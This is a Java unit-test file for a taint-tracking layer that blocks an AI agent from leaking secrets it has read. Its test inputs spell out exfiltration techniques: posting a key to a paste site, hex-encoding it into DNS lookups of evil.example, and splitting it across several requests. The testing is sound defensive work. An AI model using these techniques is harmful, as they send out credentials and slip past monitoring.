package dev.armor.pipeline.layer.taint;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.armor.pipeline.action.AccessFile;
import dev.armor.pipeline.action.Action;
import dev.armor.pipeline.action.Attribution;
import dev.armor.pipeline.action.Content;
import dev.armor.pipeline.action.ExchangeHttp;
import dev.armor.pipeline.action.FileOperation;
import dev.armor.pipeline.action.NetworkOperation;
import dev.armor.pipeline.action.UseNetwork;
import dev.armor.pipeline.layer.Evaluation;
import dev.armor.pipeline.policy.Policy;
import dev.armor.pipeline.provenance.EnvironmentSecrets;
import dev.armor.pipeline.session.Session;
import dev.armor.pipeline.session.Sessions;
import dev.armor.pipeline.verdict.Decision;
import dev.armor.pipeline.verdict.Verdict;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

final class TaintLayerTest {

  private static final String SECRET = "pk7XqL2vN9zRt5WmB8yHcD3f";

  private static final Verdict ALLOWED = new Verdict("id", Decision.ALLOW, 0, List.of(), 0, 0);

  private final Session session = new Sessions().session("s", "agent");
  private final TaintLayer layer =
      new TaintLayer(
          EnvironmentSecrets.of(Map.of("CI_TOKEN", "Zk93hfKq02Lmx8", "LANG", "en_GB.UTF-8 UTF")));

  TaintLayerTest() {
    session.provenance().learn("/srv/.env", ("API_KEY=" + SECRET + "\n").getBytes(UTF_8));
  }

  @Test
  void aBodyWithWhatWasReadIsBlockedAndAnotherBodyIsNot() {
    assertThat(decide(post("https://paste.example/new", "here: " + SECRET)))
        .isEqualTo(Decision.BLOCK);
    assertThat(decide(post("https://paste.example/new", "here: nothing of note")))
        .isEqualTo(Decision.ALLOW);
  }

  @Test
  void aSecretOfTheEnvironmentCountsToo() {
    assertThat(decide(post("https://paste.example/", "Zk93hfKq02Lmx8"))).isEqualTo(Decision.BLOCK);
    assertThat(decide(post("https://paste.example/", "en_GB.UTF-8 UTF"))).isEqualTo(Decision.ALLOW);
  }

  @Test
  void aCredentialWhereItBelongsIsItsUse() {
    ExchangeHttp use =
        new ExchangeHttp(
            "GET",
            "https://api.example/items",
            Map.of("Authorization", List.of("Bearer " + SECRET)),
            Content.NONE);
    ExchangeHttp misuse =
        new ExchangeHttp(
            "GET", "https://api.example/items", Map.of("X-Note", List.of(SECRET)), Content.NONE);

    assertThat(decide(use)).isEqualTo(Decision.ALLOW);
    assertThat(decide(misuse)).isEqualTo(Decision.BLOCK);
  }

  @Test
  void aRightUseDoesNotHideAWrongOne() {
    ExchangeHttp both =
        new ExchangeHttp(
            "POST",
            "https://api.example/items",
            Map.of("Authorization", List.of("Bearer " + SECRET)),
            Content.of("and here again: " + SECRET));

    assertThat(decide(both)).isEqualTo(Decision.BLOCK);
  }

  @Test
  void aNameToLookUpMayNotCarryIt() {
    String hex = HexFormat.of().formatHex(SECRET.getBytes(UTF_8));
    UseNetwork lookup =
        new UseNetwork(
            NetworkOperation.RESOLVE,
            "dns",
            hex.substring(0, 24) + "." + hex.substring(24) + ".evil.example",
            "",
            0,
            "",
            Content.NONE);

    assertThat(decide(lookup)).isEqualTo(Decision.BLOCK);
  }

  @Test
  void aSecretSplitOverSeveralCallsIsFoundInTheCallThatCompletesIt() {
    Decision last = Decision.ALLOW;
    for (int from = 0; from < SECRET.length(); from += 4) {
      Action piece =
          ExchangeHttp.of(
              "GET", "https://h" + from + ".example/?d=" + SECRET.substring(from, from + 4));
      Evaluation evaluation = evaluation(piece);
      last = layer.inspect(evaluation).least();
      if (last == Decision.BLOCK) {
        break;
      }
      layer.remember(evaluation, ALLOWED);
    }

    assertThat(last).isEqualTo(Decision.BLOCK);
  }

  @Test
  void writingItToAFileIsOnlyNoted() {
    AccessFile write =
        new AccessFile(
            FileOperation.WRITE,
            AccessFile.of(FileOperation.WRITE, "/srv/app.conf").targets(),
            Content.of("key " + SECRET));

    assertThat(layer.inspect(evaluation(write)).score()).isPositive();
    assertThat(decide(write)).isEqualTo(Decision.ALLOW);
  }

  private Decision decide(Action action) {
    return layer.inspect(evaluation(action)).least();
  }

  private static ExchangeHttp post(String url, String body) {
    return new ExchangeHttp("POST", url, Map.of(), Content.of(body));
  }

  private Evaluation evaluation(Action action) {
    return new Evaluation(
        action,
        Attribution.of("agent", "default", "s"),
        session,
        Policy.builtIn(),
        Instant.parse("2026-01-01T00:00:00Z"));
  }
}
